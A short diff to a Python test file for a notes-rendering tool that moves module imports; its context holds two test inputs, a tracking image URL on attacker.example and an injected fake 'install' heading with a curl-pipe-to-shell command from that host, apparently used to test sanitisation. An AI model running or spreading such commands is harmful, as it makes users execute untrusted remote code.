@@ -13,9 +13,9 @@ import pytest
 from conftest import DEMO
 
 from pmrepo import manifest
-from pmrepo.manifest_model import NoteSection, Text
-from pmrepo.notes import markdown_to_html, render_texts
-from pmrepo.notes_collect import collect
+from pmrepo.manifest.model import NoteSection, Text
+from pmrepo.notes.collect import collect
+from pmrepo.notes.render import markdown_to_html, render_texts
 
 IMAGE = "![p](https://attacker.example/track.png?who=reader)"
 FAKE = "line1\n\n## Fake install\n\n    # curl https://attacker.example/x | sh"
